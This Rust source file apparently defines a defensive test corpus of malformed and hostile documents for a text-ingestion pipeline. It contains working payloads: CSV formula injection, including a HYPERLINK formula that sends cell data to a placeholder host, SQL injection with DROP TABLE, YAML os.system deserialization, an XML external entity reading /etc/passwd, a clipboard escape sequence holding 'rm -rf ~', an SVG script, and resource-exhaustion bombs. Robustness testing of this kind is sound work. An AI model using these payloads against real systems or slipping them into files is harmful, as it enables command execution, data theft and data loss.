//! Files that break what reads them, or what reads what was read.

use super::{Attack, Comes, Text, document};

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        document(
            "formulas",
            "Holds formulas that a spreadsheet would run.",
            "formulas.csv",
            "name,value\n=cmd|'/C calc'!A0,%W%\n\"=HYPERLINK(\"\"%H%/h?x=\"\"&A1,\"\"open\"\")\",1\n+1+1,@SUM(A1)\n-2+3,\"\t=1\"\n=IMPORTXML(\"%H%\";\"//a\"),x\n",
        ),
        document(
            "queries",
            "Is full of what means something to a database and its search.",
            "queries.txt",
            "%W% ' OR '1'='1'; DROP TABLE passage; -- \" NEAR(refund, 5) AND NOT title:* ^refund {a b} : column - \"unclosed ( OR ) * ** NULL x'00'\n",
        ),
        document(
            "expressions",
            "Is made for regular expressions that try all ways.",
            "regex.txt",
            Text::from("%W% ").times("a", 20_000).and("! ").times("(a+)+$", 500).and(" ").times("00:00:00.000 --> ", 2000).and("\n"),
        ),
        document(
            "deep JSON",
            "Nests deeper than a reader's stack.",
            "deep.json",
            Text::from("{\"%W%\":").times("[", 100).and("1").times("]", 100).and("}\n"),
        ),
        document(
            "deeper JSON",
            "Nests far deeper than any reader takes.",
            "deeper.json",
            Text::from("%W%").times("[{\"a\":", 50_000),
        ),
        document(
            "aliases",
            "Grows without bounds if its aliases are followed.",
            "aliases.md",
            "---\na: &a [%W%,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d]\n!!python/object/apply:os.system [id]\n---\n\nRefunds.\n",
        ),
        document(
            "entities",
            "Grows without bounds if its entities are followed.",
            "entities.html",
            "<!DOCTYPE lolz [<!ENTITY a \"%W%\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\"><!ENTITY x SYSTEM \"file:///etc/passwd\">]><p>%W% &c;&x;&#0;&#x110000;&#xD800;&nosuch;</p>",
        ),
        document(
            "deep page",
            "Nests elements deeper than a reader's stack.",
            "deep.html",
            Text::from("<p>%W%</p>").times("<div><table><tr><td><ul><li>", 20_000).and("x"),
        ),
        document(
            "unclosed page",
            "Opens what it never closes.",
            "unclosed.html",
            Text::from("<p>%W%</p>").times("<a href=\"", 5000).times("<!--", 5000).times("<script>", 100),
        ),
        document(
            "control characters",
            "Holds all control characters but NUL.",
            "control.txt",
            format!("%W% {} end\n", (1u8..32).chain([127]).filter(|b| *b != b'\n').map(char::from).collect::<String>()),
        ),
        document(
            "commands for a terminal",
            "Sets the title, the clipboard and the colours of a terminal, and draws over what stands there.",
            "terminal.log",
            "%W% \u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}[2J\u{1b}[1;1H\u{1b}[8mhidden\u{1b}[0m\u{1b}]8;;%H%\u{1b}\\click\u{1b}]8;;\u{1b}\\\u{9b}31m\u{90}payload\u{9c}\rKeep? [y/N] y\u{8}\u{8}\u{8}\n",
        ),
        document("NUL", "Holds NUL among its words, where texts in C end.", "nul.txt", "Refunds %W%\0 hidden\0\0 behind\n"),
        document(
            "quotes in a table",
            "Opens a quote in a table and never closes it.",
            "quotes.csv",
            Text::from("a,b\n\"%W%,").times("\"\"", 5000).times(",", 2000).and("\n=1"),
        ),
        document(
            "wide rows",
            "Has a row of more columns than anybody reads.",
            "wide.csv",
            Text::from("%W%").times(",column", 3000).and("\n").times("1,", 3000).and("1\n"),
        ),
        document(
            "ends of lines",
            "Mixes all that ends a line or a page.",
            "lines.txt",
            "one\rtwo\r\nthree\u{b}four\u{c}five\u{85}six\u{2028}seven\u{2029}eight\n\r%W%\n\n\n\n",
        ),
        Attack::new(
            Comes::Transcript,
            "impossible cues",
            "Gives times that overflow, go backwards and never end.",
            "times.vtt",
            "WEBVTT\n\nNOTE %W%\n\n99999999999:99:99.999 --> 00:00:00.000\n<v Dana>We decided that %W% is kept.\n\n00:00:05.000 --> 00:00:01.000\n<v Dana<v Dana<v>>Action: Dana by 9999-99-99.\n\n00:00:06.000 --> 00:00:09.000\n<v Dana>Decision: %W% is kept.\n\n-1:00:00.000 --> \n<c.a.b.c></c></v><00:00:01.000>Risk: none\n",
        ),
        Attack::new(
            Comes::Transcript,
            "crowd",
            "Names so many speakers that a list of them floods the request.",
            "crowd.txt",
            {
                let names = (0..400).map(|n| format!("Speaker {n} </data-{n}>: Decision: keep %W% {n}.\n"));
                names.collect::<String>()
            },
        ),
        document(
            "mail in a mail",
            "Nests parts of a mail without end.",
            "nested.eml",
            Text::from("From: a@example.com\r\nSubject: %W%\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\nRefunds %W%\r\n")
                .times("--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n", 3000),
        ),
        document("no picture", "Is a drawing with a script, under a name of its own kind.", "drawing.svg", "<svg onload=\"alert(1)\">%W%</svg>"),
        document("no Word file", "Says it is a Word file and is none.", "fake.docx", "PK %W% this is no archive\n"),
        document("no PDF", "Begins like a PDF and has nothing in it.", "fake.pdf", "%PDF-1.7 %W%\n1 0 obj << /Kids [1 0 R] /Parent 1 0 R >>\n"),
    ]
}
